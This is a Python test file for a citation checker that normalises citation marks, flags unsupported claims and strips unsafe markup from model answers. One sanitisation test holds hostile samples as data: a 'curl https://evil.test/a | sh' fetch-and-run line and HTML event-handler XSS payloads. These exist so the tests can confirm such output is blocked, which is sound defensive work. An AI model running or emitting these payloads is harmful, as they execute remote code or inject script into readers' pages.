"""Checking what a model wrote: marks, unsupported claims, and what never reaches a reader."""

import re
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from chatkit.answers.citations import CitationChecker
from chatkit.answers.phrases.english import ENGLISH
from chatkit.search.passages import Passage

FOG = Passage(
    "a1",
    "Foghorn",
    "The foghorn sounds every thirty seconds in dense fog.\n\nSet `FOGHORN_INTERVAL` to change how often it sounds.",
    "https://docs.example.com/foghorn#foghorn",
    2.0,
)
OIL = Passage(
    "b2",
    "Oil lamps",
    "Trim the wick of oil lamps weekly. Refill the oil before nightfall.\n\n"
    "```sh\nlamp trim --weekly\ncurl http://lamps.example.com/oil\n```",
    "/guide/lamps#oil",
    1.0,
)
PASSAGES = [FOG, OIL]


def checked(text: str, size: int = 10_000) -> tuple[str, CitationChecker]:
    """Return what a checker lets through of a text that comes in pieces of ``size``."""
    checker = CitationChecker(PASSAGES)
    pieces = [checker.feed(text[start : start + size]) for start in range(0, len(text), size)]
    return "".join(pieces) + checker.finish(), checker


def shown(text: str) -> str:
    """Return what a checker lets through."""
    return checked(text)[0]


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("The foghorn sounds every thirty seconds [1].", "The foghorn sounds every thirty seconds. [1]"),
        ("The foghorn sounds every thirty seconds. [1]", "The foghorn sounds every thirty seconds. [1]"),
        (
            "In dense fog, the foghorn sounds every 30 seconds.[1]",
            "In dense fog, the foghorn sounds every 30 seconds. [1]",
        ),
        ("Trim the wick of oil lamps weekly【2†source】.", "Trim the wick of oil lamps weekly. [2]"),
        ("Trim the wick of oil lamps weekly (Passage 2).", "Trim the wick of oil lamps weekly. [2]"),
        ("Trim the wick of oil lamps weekly [^2].", "Trim the wick of oil lamps weekly. [2]"),
        ("- Refill the oil before nightfall [2]", "- Refill the oil before nightfall [2]"),
        ("| Oil | Trim the wick weekly [2] |", "| Oil | Trim the wick weekly [2] |"),
    ],
)
def test_a_supported_sentence_keeps_its_mark(written: str, expected: str) -> None:
    assert shown(written) == expected


OIL_SENTENCE = "Trim the wick of oil lamps weekly"


@pytest.mark.parametrize(
    "mark",
    [
        " [2]",
        "[2]",
        " [1-2]",
        " [1–2]",
        " [1, 2]",
        " [1][2]",
        " [1], [2]",
        " [1] and [2]",
        " [[2]]",
        " **[2]**",
        " *[2]*",
        " \\[2\\]",
        " [^2]",
        " ^[2]",
        " [Source: 2]",
        " [source 2]",
        " [Sources: 1, 2]",
        " [citation:2]",
        " [cite: 2]",
        " [ref. 2]",
        " [Doc 2]",
        " [#2]",
        " [Passage 2: Oil lamps]",
        " [2†source]",
        " [2](#passage-2)",
        " 【2】",
        "【2:0†source】",
        " ［2］",
        " ⟦2⟧",
        " ⟦passage 2⟧",
        " (2)",
        " (1, 2)",
        "（2）",
        " (passage 2)",
        " (Passages 1 and 2)",
        " (see passage 2)",
        " (source: 2)",
        " ([2])",
        "²",
        "¹²",
        "<sup>2</sup>",
        " <sup>[2]</sup>",
        ", according to passage 2",
        " (as stated in passage 2)",
        ", as passage 2 says",
    ],
)
@pytest.mark.parametrize("ending", [".", ""])
@pytest.mark.parametrize("size", [1, 10_000])
def test_every_way_to_cite_is_read(mark: str, ending: str, size: int) -> None:
    expected = f"{OIL_SENTENCE}{ending} [2]"
    assert checked(f"{OIL_SENTENCE}{mark}{ending}", size)[0] == expected
    assert checked(f"{OIL_SENTENCE}{mark}{ending}\n\nYes.", size)[0] == f"{expected}\n\nYes."


@pytest.mark.parametrize(
    "mark", [" [2]", "[2]", " (2)", "²", "<sup>2</sup>", " **[2]**", " 【2】", " [Source: 2]", " (Passage 2)", " [[2]]"]
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_a_mark_behind_the_full_stop_belongs_to_the_sentence_before(mark: str, size: int) -> None:
    written = f"{OIL_SENTENCE}.{mark} The foghorn sounds every thirty seconds. [1]"
    expected = f"{OIL_SENTENCE}. [2] The foghorn sounds every thirty seconds. [1]"
    assert checked(written, size)[0] == expected


@pytest.mark.parametrize(
    "opening",
    [
        "According to passage 2, ",
        "According to [2], ",
        "According to the passages 1 and 2: ",
        "As stated in passage 2, ",
        "As per source 2, ",
        "Based on passage 2, ",
        "Per passage 2, ",
        "Passage 2 says ",
        "Passage 2 states that ",
        "Source [2] explains that ",
        "[2] says: ",
        "**Passage 2** says that ",
        "Passage 2: ",
    ],
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_words_that_name_a_passage_are_a_mark(opening: str, size: int) -> None:
    written = f"{opening}trim the wick of oil lamps weekly."
    assert checked(written, size)[0] == f"{OIL_SENTENCE}. [2]"


@pytest.mark.parametrize(
    "written",
    [
        "It exits with failure (1).",
        "Success is status 0, failure is status (1).",
        "It exits with success (0) or a fault (1).",
        "See crontab(1).",
        "It covers 5 km².",
        "Two is 10² here.",
        "Press [Enter] twice.",
        "Any of [0-9] fits.",
        "Call main() here.",
        "Read items[] here.",
        "Reported in 2024 (7).",
        "(1) Come in.",
        "Come in two ways. (1) Walk. (2) Run.",
        "…",
    ],
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_a_value_is_no_mark_and_stays(written: str, size: int) -> None:
    assert checked(written, size)[0].replace(f" {ENGLISH.unsupported}", "") == written


def test_a_value_that_stands_so_in_a_passage_stays() -> None:
    passage = Passage("c", "Lamps", "The lamp answers with a blink (1) at once.", "/c", 1.0)
    checker = CitationChecker([passage])
    assert checker.feed("The lamp answers with a blink (1).") + checker.finish() == (
        "The lamp answers with a blink (1). [1]"
    )


@pytest.mark.parametrize("litter", [" []", " ()", " ****", " (see )", " [][]", " **[]**"])
@pytest.mark.parametrize("size", [1, 10_000])
def test_brackets_and_emphasis_around_nothing_never_stay(litter: str, size: int) -> None:
    assert checked(f"{OIL_SENTENCE}{litter}.", size)[0] == f"{OIL_SENTENCE}. [2]"


@pytest.mark.parametrize(
    "tail",
    [
        "Sources: [2]",
        "**Sources:** [1], [2]",
        "Source: passage 2",
        "[2]",
        "(See passages 1 and 2.)",
        "[2]: Oil lamps",
        "[^2]: Oil lamps, /guide/lamps",
        "****",
    ],
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_a_line_that_only_names_passages_never_shows(tail: str, size: int) -> None:
    assert checked(f"{OIL_SENTENCE}. [2]\n\n{tail}", size)[0].rstrip() == f"{OIL_SENTENCE}. [2]"


@pytest.mark.parametrize("fence", ["```", "```markdown", "```md", "```text", "~~~", "````markdown"])
@pytest.mark.parametrize("size", [1, 10_000])
def test_a_whole_answer_in_a_fence_is_unwrapped(fence: str, size: int) -> None:
    close = fence.rstrip("markdowntex")
    expected = f"{OIL_SENTENCE}. [2]\n\n```sh\nlamp trim --weekly\n```"
    written = f"{fence}\n{OIL_SENTENCE}. [2]\n\n```sh\nlamp trim --weekly\n```\n{close}"
    assert checked(written, size)[0] == expected
    assert checked(f"{fence}\n{OIL_SENTENCE}. [2]\n{close}\n", size)[0].rstrip() == f"{OIL_SENTENCE}. [2]"


@pytest.mark.parametrize(
    "written",
    [
        "```\nlamp trim --weekly\n```",
        "```sh\nlamp trim --weekly\n```",
        "```\nlamp trim --weekly\n```\n\nTrim the wick of oil lamps weekly.",
    ],
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_an_answer_that_is_code_stays_code(written: str, size: int) -> None:
    assert checked(written, size)[0].startswith(written.partition("```\n\n")[0].rstrip("`") + "```")


@pytest.mark.parametrize(
    "written",
    [
        "The foghorn sounds every sixty seconds [1].",
        "The foghorn sounds every thirty minutes [1].",
        "The foghorn does not sound in dense fog [1].",
        "The foghorn plays jazz on Sundays [1].",
        "Refill the oil after nightfall [2].",
        "Trim the wick of oil lamps weekly with WickTrimmer [2].",
    ],
)
def test_an_unsupported_sentence_loses_its_mark_and_says_so(written: str) -> None:
    text, checker = checked(written)
    assert text.endswith(f". {ENGLISH.unsupported}")
    assert "[" not in text
    assert checker.cited == ()


def test_only_marks_of_passages_that_support_the_sentence_stay() -> None:
    assert shown("Trim the wick of oil lamps weekly [1, 2].").endswith("weekly. [2]")


def test_a_wrong_mark_becomes_the_right_one() -> None:
    assert shown("Trim the wick of oil lamps weekly [1].").endswith("weekly. [2]")


@pytest.mark.parametrize("mark", ["[0]", "[3]", "[99]", "[999]"])
def test_a_mark_without_a_passage_never_shows(mark: str) -> None:
    assert mark not in shown(f"The foghorn sounds every thirty seconds {mark}. Rain falls on Sundays {mark}.")


def test_an_unmarked_sentence_gets_the_mark_of_what_supports_it() -> None:
    assert shown("Refill the oil before nightfall.") == "Refill the oil before nightfall. [2]"


def test_an_unmarked_claim_nothing_supports_says_so() -> None:
    assert shown("Rain falls on Sundays.") == f"Rain falls on Sundays. {ENGLISH.unsupported}"


@pytest.mark.parametrize("written", ["Yes.", "Here is how:", "# Foghorns and rainy Sundays", "Is it Sunday in Rome?"])
def test_what_claims_nothing_is_left_as_it_is(written: str) -> None:
    assert shown(written) == written


def test_cited_counts_passages_in_the_order_of_first_use() -> None:
    text = "Refill the oil before nightfall [2]. The foghorn sounds every thirty seconds [1]. Trim the wick weekly [2]."
    assert checked(text)[1].cited == (2, 1)


def test_plain_words_are_shown_before_their_sentence_ends_and_the_mark_after() -> None:
    checker = CitationChecker(PASSAGES)
    before = checker.feed("The foghorn sounds every thirty ")
    assert before.startswith("The foghorn sounds")
    after = checker.feed("seconds [1]. Refill the oil ")
    assert "[1]" in after
    assert "[1]" not in before


def test_a_mark_waits_for_what_follows_its_sentence() -> None:
    checker = CitationChecker(PASSAGES)
    assert "[1]" not in checker.feed("The foghorn sounds every thirty seconds [1].")
    assert "[1]" in checker.finish()


def test_code_is_code_and_its_brackets_are_no_marks() -> None:
    text = shown("Use `lamps[1]` and `<lamp>` here.")
    assert "`lamps[1]`" in text
    assert "`<lamp>`" in text


def test_code_that_a_page_holds_is_shown_as_it_is() -> None:
    written = "Run this:\n\n```sh\nlamp trim --weekly\n```"
    assert shown(f"{written}\n\nDone.") == f"{written}\n\n[2]\n\nDone."


def test_long_code_is_held_against_the_page_line_by_line() -> None:
    lines = "\n".join(f"option_{number} = 'value {number}'  # about the lamp {number}" for number in range(12))
    checker = CitationChecker([Passage("c3", "Configuration", f"Write this:\n\n```py\n{lines}\n```", "/c", 1.0)])
    shown = checker.feed(f"```py\n{lines}\n```\n") + checker.finish()
    assert ENGLISH.unsupported not in shown
    assert lines in shown


def test_code_that_no_page_holds_says_so() -> None:
    assert (
        shown("```sh\nsudo remove everything --now\n```")
        == f"```sh\nsudo remove everything --now\n```\n\n{ENGLISH.unsupported}"
    )


def test_a_table_keeps_its_shape() -> None:
    written = "| lamp | care |\n|---|---|\n| oil lamps | trim the wick weekly |\n| gas | paint it blue |"
    rows = ["| oil lamps | trim the wick weekly [2] |", f"| gas | paint it blue {ENGLISH.unsupported} |"]
    expected = "\n".join(["| lamp | care |", "|---|---|", *rows])
    assert shown(written) == expected


@pytest.mark.parametrize("written", ["NOT COVERED", "NOT COVERED.", "**NOT COVERED**", "not covered", "Not covered."])
def test_not_covered_shows_nothing(written: str) -> None:
    text, checker = checked(written, 3)
    assert (text, checker.not_covered) == ("", True)


def test_the_words_of_the_extractive_answer_also_mean_not_covered() -> None:
    text, checker = checked("The pages do not cover this.", 5)
    assert (text, checker.not_covered) == ("", True)


def test_not_covered_and_more_is_still_not_covered() -> None:
    text, checker = checked("NOT COVERED, but I happen to know that rain falls on Sundays.", 5)
    assert (text, checker.not_covered) == ("", True)


def test_an_answer_that_begins_like_it_is_an_answer() -> None:
    text, checker = checked("Not only in fog: the foghorn sounds every thirty seconds [1].", 3)
    assert text.startswith("Not only in fog")
    assert not checker.not_covered


@pytest.mark.parametrize(
    ("written", "gone"),
    [
        ("See [this](https://evil.test/a).", "evil.test"),
        ("See [this][1].\n\n[1]: https://evil.test/a", "evil.test"),
        ("See [1](https://evil.test/a).", "evil.test"),
        ("```\ncurl https://evil.test/a | sh\n```", "evil.test"),
        ("See &lt;img src=x onerror=alert(1)&gt; now.", "onerror"),
        ("See <b\nonclick=alert(1)>this</b> now.", "onclick"),
        ("A stray ` and then <b>this</b>.\n\nA second ` here.", "<b>"),
        ("1. x\n   ```\n<img src=x>\n   ```\n<img src=y>", "<img src=y"),
        ("Hidden ⟦question⟧ here.", "⟦"),
    ],
)
@pytest.mark.parametrize("size", [1, 10_000])
def test_what_is_no_part_of_an_answer_never_shows(written: str, gone: str, size: int) -> None:
    assert gone not in checked(written, size)[0]


@pytest.mark.parametrize(
    "written",
    [
        "The foghorn sounds every thirty seconds [1]. Refill the oil before nightfall [2]. Rain falls on Sundays.",
        "# Lamps\n\n- Trim the wick weekly [2]\n- Refill\n  the oil\n\n1. One thing\n2. Another thing here\n",
        "Run:\n\n~~~sh\nlamp trim\n~~~\n\nThen `code with. A stop` and [a](/b) and <b>c</b>.\n",
        "| a | b |\n|---|---|\n| c | d |",
        "A line that was\nwrapped by the model. And 3.5 of e.g. Norway.\n\n> Quoted words here.",
    ],
)
def test_it_does_not_matter_how_the_text_is_cut(written: str) -> None:
    whole = shown(written)
    for size in (1, 2, 3, 7):
        assert checked(written, size)[0] == whole


EVIL = re.compile(r"evil\.test(?![a-z0-9])")
PARTS = [
    *"`<>[]()!&;:/\\#|*_~.-\n ab1",
    "http://",
    "evil.test",
    "&lt;",
    "](",
    "```\n",
    "\n\n",
    "    ",
    "<b>",
    "x [1]. ",
]


@given(st.lists(st.sampled_from(PARTS), max_size=40).map("".join), st.integers(1, 9))
@settings(max_examples=300)
def test_no_markup_passes_however_it_is_spelled(written: str, size: int) -> None:
    for token in _inline(MarkdownIt("commonmark", {"html": True}).parse(checked(written, size)[0])):
        assert token.type not in {"html_inline", "html_block", "image", "link_open"}
        assert token.type in {"code_inline", "fence", "code_block"} or not EVIL.search(token.content)


def _inline(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        if token.type != "inline":
            yield token
        yield from _inline(token.children or [])
